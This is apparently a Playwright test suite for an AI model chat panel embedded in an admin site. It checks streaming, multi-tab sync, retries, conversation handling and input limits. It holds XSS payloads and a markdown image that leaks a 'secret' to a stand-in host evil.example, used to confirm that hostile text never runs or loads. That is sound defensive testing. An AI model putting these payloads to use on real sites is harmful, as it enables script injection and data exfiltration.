"""The built panel in a real Chromium, against its twin: what a person does with it, and what must never happen meanwhile."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Twin
from tests.browser.person import ask, finished, line, try_now
from tests.browser.watched import Watched

pytestmark = pytest.mark.browser

HOSTILE = (
    "echo: <script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)> ![x](https://evil.example/?q=secret) "
    '<iframe srcdoc="<script>alert(1)</script>"></iframe> [x](javascript:alert(1)) <style>@import "https://evil.example/"</style>'
)


def test_an_answer_streams_in_and_stands_as_tables_links_and_code(browser_context: Watched, twin: Twin) -> None:
    """UI3"""
    page = browser_context.opened()
    ask(page, "Which orders are late?")
    expect(page.locator(".user")).to_contain_text("Which orders are late?")
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    expect(page.get_by_role("log").get_by_text("Looking up: Orders…")).to_be_visible()
    expect(page.get_by_role("log").get_by_text("Looked up: Orders", exact=True)).to_be_visible()
    finished(page)
    expect(page.locator(".answer table tr")).to_have_count(4)
    expect(page.locator(".answer .host")).to_have_text(" (example.com)")
    link = page.locator(".answer a").first
    expect(link).to_have_attribute("rel", "noreferrer noopener")
    expect(page.locator("textarea")).to_have_value("")
    expect(page.get_by_role("log").get_by_text("Looked up: Orders", exact=True)).to_have_count(1)
    expect(page.locator(".assistant")).to_have_count(1)
    start = twin.requests("POST", "/turns")[0]["body"]
    assert (start["page"], start["locale"]) == ("/admin/shop/order/", "en")
    assert re.fullmatch(r"[A-Za-z0-9_-]{1,64}", start["key"])
    browser_context.expect_clean()


def test_who_receives_what_is_written_stands_under_the_composer(browser_context: Watched) -> None:
    """TO11"""
    page = browser_context.opened()
    expect(page.locator(".provider")).to_contain_text("Example AI")
    expect(page.get_by_text("changes nothing without your click")).to_be_visible()


def test_a_closed_panel_asks_the_server_nothing(browser_context: Watched, twin: Twin) -> None:
    """UI1"""
    page = browser_context.page()
    expect(page.get_by_role("button", name="Open the assistant")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert twin.requests() == []


def test_a_reload_in_the_middle_takes_the_answer_up(browser_context: Watched, twin: Twin) -> None:
    """B62, TU4"""
    page = browser_context.opened()
    ask(page, "a long answer")
    expect(line(page, 3)).to_be_visible()
    page.reload()
    expect(line(page, 1)).to_be_visible()
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    twin.control(pieceMs=1)
    finished(page)
    expect(page.locator(".answer p")).to_have_count(60)
    expect(line(page, 60)).to_have_count(1)
    expect(page.locator(".user")).to_have_count(1)
    assert len(twin.requests("POST", "/turns")) == 1


def test_stop_in_another_tab_ends_the_turn_in_both_and_keeps_what_was_said(browser_context: Watched) -> None:
    """TU4, B60"""
    first = browser_context.opened()
    ask(first, "a long answer")
    expect(line(first, 2)).to_be_visible()
    second = browser_context.opened()
    second.get_by_role("button", name="Conversations").click()
    expect(second.get_by_role("img", name="An answer is being written")).to_be_visible()
    second.locator("deskhand-conversations .open").click()
    expect(line(second, 2)).to_be_visible()
    second.get_by_role("button", name="Stop", exact=True).click()
    for page in (first, second):
        finished(page)
        expect(page.get_by_text("Stopped here.")).to_be_visible()
        expect(line(page, 1)).to_have_count(1)
    browser_context.expect_clean()


def test_a_tab_hears_of_a_turn_that_another_began(browser_context: Watched) -> None:
    """TU4"""
    first = browser_context.opened()
    ask(first, "hello")
    finished(first)
    second = browser_context.opened()
    second.get_by_role("button", name="Conversations").click()
    second.locator("deskhand-conversations .open").first.click()
    expect(second.locator(".assistant")).to_have_count(1)
    ask(first, "and again")
    expect(second.locator(".user")).to_have_count(2)
    expect(second.locator(".assistant")).to_have_count(2)


def test_enter_that_belongs_to_an_input_method_never_sends(browser_context: Watched, twin: Twin) -> None:
    """B72"""
    page = browser_context.opened()
    page.locator("textarea").fill("にほん")
    dispatch = """(field, [type, more]) => field.dispatchEvent(type.startsWith('composition')
        ? new CompositionEvent(type, {bubbles: true, composed: true})
        : new KeyboardEvent(type, {key: 'Enter', bubbles: true, composed: true, cancelable: true, ...more}))"""
    field = page.locator("textarea")
    field.evaluate(dispatch, ["compositionstart", {}])
    field.evaluate(dispatch, ["keydown", {"isComposing": True, "keyCode": 229}])
    field.evaluate(dispatch, ["keydown", {"isComposing": True}])
    field.evaluate(dispatch, ["compositionend", {}])
    field.evaluate(dispatch, ["keydown", {"keyCode": 229}])
    expect(field).to_have_value("にほん")
    assert twin.requests("POST") == []
    field.press("Enter")
    finished(page)
    assert len(twin.requests("POST", "/turns")) == 1


def test_enter_twice_sends_once(browser_context: Watched, twin: Twin) -> None:
    """B73"""
    twin.control(startMs=150)
    page = browser_context.opened()
    page.locator("textarea").fill("hello")
    page.locator("textarea").evaluate("""(field) => { for (let n = 0; n < 2; n += 1) field.dispatchEvent(
        new KeyboardEvent('keydown', {key: 'Enter', bubbles: true, composed: true, cancelable: true})) }""")
    finished(page)
    assert len(twin.requests("POST", "/turns")) == 1
    expect(page.locator(".user")).to_have_count(1)


def test_shift_enter_makes_a_new_line_and_the_field_grows(browser_context: Watched, twin: Twin) -> None:
    """UI2"""
    page = browser_context.opened()
    field = page.locator("textarea")
    field.fill("one")
    before = field.bounding_box()
    for _ in range(3):
        field.press("Shift+Enter")
    field.press_sequentially("two")
    after = field.bounding_box()
    expect(field).to_have_value("one\n\n\ntwo")
    assert before
    assert after
    assert after["height"] > before["height"] + 30
    assert twin.requests("POST") == []


def test_busy_keeps_the_text_and_shows_the_way_to_the_answer_under_way(browser_context: Watched) -> None:
    """TU1"""
    page = browser_context.opened()
    ask(page, "a long answer")
    expect(line(page, 1)).to_be_visible()
    ask(page, "meanwhile")
    expect(page.get_by_role("alert")).to_contain_text("still being written")
    expect(page.locator("textarea")).to_have_value("meanwhile")
    page.get_by_role("button", name="New conversation").click()
    ask(page, "elsewhere")
    expect(page.get_by_role("alert")).to_contain_text("An answer is still being written. Your text is still here.")
    expect(page.locator("textarea")).to_have_value("elsewhere")
    page.get_by_role("button", name="Show that conversation").click()
    expect(line(page, 1)).to_be_visible()
    expect(page.locator("textarea")).to_have_value("meanwhile")


def test_a_start_whose_answer_was_lost_and_is_sent_again_makes_one_turn(browser_context: Watched, twin: Twin) -> None:
    """B66"""
    twin.control(loseStarts=1)
    page = browser_context.opened()
    ask(page, "hello")
    expect(page.get_by_role("alert")).to_contain_text("could not be reached")
    expect(page.locator("textarea")).to_have_value("hello")
    page.reload()
    expect(page.locator("textarea")).to_have_value("hello")
    page.locator("textarea").press("Enter")
    expect(page.locator("textarea")).to_have_value("")
    finished(page)
    starts = twin.requests("POST", "/turns")
    assert len({start["body"]["key"] for start in starts}) == 1
    expect(page.locator(".user")).to_have_count(1)
    expect(page.locator(".assistant")).to_have_count(1)


def test_a_start_that_failed_says_so_in_words_and_keeps_the_text(browser_context: Watched, twin: Twin) -> None:
    """UI2"""
    twin.control(failStarts=1)
    page = browser_context.opened()
    ask(page, "hello")
    expect(page.get_by_role("alert")).to_contain_text("The server made a mistake. Try again")
    expect(page.locator("textarea")).to_have_value("hello")
    page.locator("textarea").press("Enter")
    finished(page)
    expect(page.get_by_role("alert")).to_have_count(0)


def test_an_answer_never_lands_in_the_conversation_that_was_opened_meanwhile(browser_context: Watched, twin: Twin) -> None:
    """B68"""
    twin.control(conversations=[{"title": "Returns", "rows": [["user", "old question"], ["assistant", "old answer"]]}])
    page = browser_context.opened()
    ask(page, "a long answer")
    expect(line(page, 1)).to_be_visible()
    page.get_by_role("button", name="Conversations").click()
    page.get_by_role("button", name="Returns").first.click()
    expect(page.get_by_text("old answer")).to_be_visible()
    page.locator("textarea").fill("typed here")
    twin.control(pieceMs=1)
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_role("img", name="An answer is being written")).to_have_count(0)
    page.get_by_role("button", name="Returns").first.click()
    expect(page.locator(".row")).to_have_count(2)
    expect(page.locator("textarea")).to_have_value("typed here")
    page.get_by_role("button", name="Conversations").click()
    page.get_by_role("button", name="a long answer").first.click()
    expect(page.locator(".answer p")).to_have_count(60)


def test_a_lost_connection_is_said_and_the_answer_goes_on_without_a_gap(browser_context: Watched, twin: Twin) -> None:
    """UI6, B66"""
    twin.control(refuse=2)
    page = browser_context.opened()
    ask(page, "echo: one two three four five six")
    expect(page.get_by_text("Connection lost.").first).to_be_visible()
    try_now(page)
    finished(page)
    expect(page.locator(".answer")).to_have_text("one two three four five six")
    expect(page.locator("deskhand-composer").get_by_text("Connection lost.")).to_have_count(0)


def test_a_server_that_does_not_stream_is_polled(browser_context: Watched, twin: Twin) -> None:
    """UI6"""
    twin.control(streams=False)
    page = browser_context.opened()
    ask(page, "hello")
    finished(page)
    expect(page.locator(".answer")).to_contain_text("14 open orders")
    assert twin.requests("GET", "/stream") == []
    assert twin.requests("GET", "/events")


def test_hostile_text_never_runs_never_loads_anything_and_breaks_no_policy(browser_context: Watched) -> None:
    """B97, B99, B101, sec_E9, sec_G1, sec_G2: typed, streamed and reloaded"""
    page = browser_context.opened()
    ask(page, HOSTILE)
    finished(page)
    page.reload()
    expect(page.locator(".answer").first).to_contain_text("<script>alert(1)</script>")
    expect(page.locator(".user").first).to_contain_text("<img src=x onerror=alert(1)>")
    for name in ("script", "img", "iframe", "style", "form", "math"):
        assert page.locator(f".answer {name}").count() == 0
    browser_context.expect_clean()


def test_a_title_with_markup_or_direction_marks_stays_text(browser_context: Watched, twin: Twin) -> None:
    """sec_G9"""
    twin.control(conversations=[{"title": "<b>x</b>\u202e txt.exe"}])
    page = browser_context.opened()
    page.get_by_role("button", name="Conversations").click()
    expect(page.locator("deskhand-conversations bdi")).to_have_text("<b>x</b>\u202e txt.exe")
    assert page.locator("deskhand-conversations b").count() == 0


def test_conversations_are_searched_renamed_deleted_and_brought_back(browser_context: Watched, twin: Twin) -> None:
    """UI2, ME10"""
    twin.control(conversations=[{"title": "Returns", "rows": [["user", "about SKU-88"]]}, {"title": "Invoices"}])
    page = browser_context.opened()
    page.get_by_role("button", name="Conversations").click()
    items = page.locator("deskhand-conversations bdi")
    expect(items).to_have_text(["Invoices", "Returns"])
    page.get_by_role("searchbox").fill("sku-88")
    expect(items).to_have_text(["Returns"])
    page.get_by_role("searchbox").fill("nowhere")
    expect(page.get_by_text("Nothing found for “nowhere”.")).to_be_visible()
    page.get_by_role("searchbox").fill("")
    page.get_by_role("button", name="Rename “Returns”").click()
    page.get_by_role("textbox", name="New name").fill("Returns in November")
    page.keyboard.press("Enter")
    expect(items).to_have_text(["Invoices", "Returns in November"])
    page.get_by_role("button", name="Delete “Invoices”").click()
    expect(items).to_have_text(["Returns in November"])
    page.get_by_role("button", name="Undo").click()
    expect(items).to_have_text(["Invoices", "Returns in November"])


def test_older_messages_come_when_asked_for_and_the_place_is_held(browser_context: Watched, twin: Twin) -> None:
    """UI2"""
    rows = [["user", f"question {number}"] for number in range(1, 81)]
    twin.control(conversations=[{"title": "Long", "rows": rows}])
    page = browser_context.opened()
    page.get_by_role("button", name="Conversations").click()
    page.get_by_role("button", name="Long").first.click()
    expect(page.get_by_text("question 80")).to_be_in_viewport()
    expect(page.locator(".user")).to_have_count(50)
    page.get_by_role("button", name="Show earlier messages").scroll_into_view_if_needed()
    page.get_by_role("button", name="Show earlier messages").click()
    expect(page.locator(".user")).to_have_count(80)
    expect(page.get_by_text("question 31")).to_be_in_viewport()
    page.get_by_role("button", name="Go to the newest message").click()
    expect(page.get_by_text("question 80")).to_be_in_viewport()


def test_sending_brings_the_own_question_into_sight_wherever_the_log_stood(browser_context: Watched, twin: Twin) -> None:
    """UI2: while it is answered, and at the top once a tall answer is there"""
    twin.control(pieceMs=4)
    page = browser_context.opened()
    for number in (1, 2, 3):
        ask(page, f"long question {number}")
        question = page.locator(".user", has_text=f"long question {number}")
        expect(question).to_be_in_viewport()
        finished(page, number)
        expect(question).to_be_in_viewport(ratio=1)
        expect(line(page, 1).last).to_be_in_viewport()
    page.locator(".log").evaluate("log => { log.scrollTop = 0 }")
    expect(page.get_by_role("button", name="Go to the newest message")).to_be_visible()
    twin.control(pieceMs=30)
    ask(page, "wait here")
    expect(page.locator(".user").last).to_contain_text("wait here")
    expect(page.locator(".user").last).to_be_in_viewport()
    expect(page.get_by_role("button", name="Go to the newest message")).to_have_count(0)
    expect(page.locator(".user").first).not_to_be_in_viewport()


def test_another_tabs_question_never_moves_who_has_scrolled_up(browser_context: Watched, twin: Twin) -> None:
    """UI2, TU4"""
    twin.control(pieceMs=4)
    first = browser_context.opened()
    ask(first, "long")
    finished(first)
    second = browser_context.opened()
    second.get_by_role("button", name="Conversations").click()
    second.locator("deskhand-conversations .open").first.click()
    expect(second.locator(".assistant")).to_have_count(1)
    second.locator(".log").evaluate("log => { log.scrollTop = 40 }")
    expect(second.get_by_role("button", name="Go to the newest message")).to_be_visible()
    ask(first, "and again")
    finished(second, 2)
    assert second.locator(".log").evaluate("log => log.scrollTop") == 40
    expect(first.locator(".user").last).to_be_in_viewport()


def test_a_text_over_the_limit_is_not_sent_and_the_words_say_what_to_do(browser_context: Watched, twin: Twin) -> None:
    """UI2"""
    page = browser_context.opened()
    page.locator("textarea").fill("ä" * 19_000)
    expect(page.get_by_text("1,000 characters left")).to_be_visible()
    page.locator("textarea").fill("😀" * 20_002)
    expect(page.get_by_text("2 characters too many. Shorten the text, or send it in parts.")).to_be_visible()
    page.locator("textarea").press("Enter")
    expect(page.get_by_role("button", name="Send")).to_be_disabled()
    assert twin.requests("POST") == []


def test_a_draft_survives_a_reload_and_is_its_conversations_own(browser_context: Watched) -> None:
    """UI2"""
    page = browser_context.opened()
    ask(page, "hello")
    finished(page)
    page.locator("textarea").fill("half a thought")
    page.reload()
    expect(page.locator("textarea")).to_have_value("half a thought")
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("textarea")).to_have_value("")


def test_a_notice_and_a_broken_answer_say_what_happened(browser_context: Watched) -> None:
    """TU7"""
    page = browser_context.opened()
    ask(page, "fail please")
    finished(page)
    expect(page.locator(".notice")).to_contain_text("broke off")
    expect(page.get_by_text("This answer is not complete.")).to_be_visible()


def test_open_or_closed_is_remembered_over_pages(browser_context: Watched) -> None:
    """UI2"""
    page = browser_context.opened()
    page.goto(f"{browser_context.address}/another/")
    expect(page.locator("textarea")).to_be_visible()
    page.get_by_role("button", name="Close the assistant").click()
    page.reload()
    expect(page.get_by_role("button", name="Open the assistant")).to_be_visible()


def test_the_watch_of_these_tests_sees_a_breach(browser_context: Watched) -> None:
    """What `expect_clean` says would be worth nothing if the page's policy were not in force."""
    page = browser_context.page()
    page.evaluate("document.body.setAttribute('style', 'color: red')")
    page.evaluate("new Image().src = 'https://evil.example/x.png'")
    page.wait_for_function("window.breaches.length >= 2")
    with pytest.raises(AssertionError):
        browser_context.expect_clean()
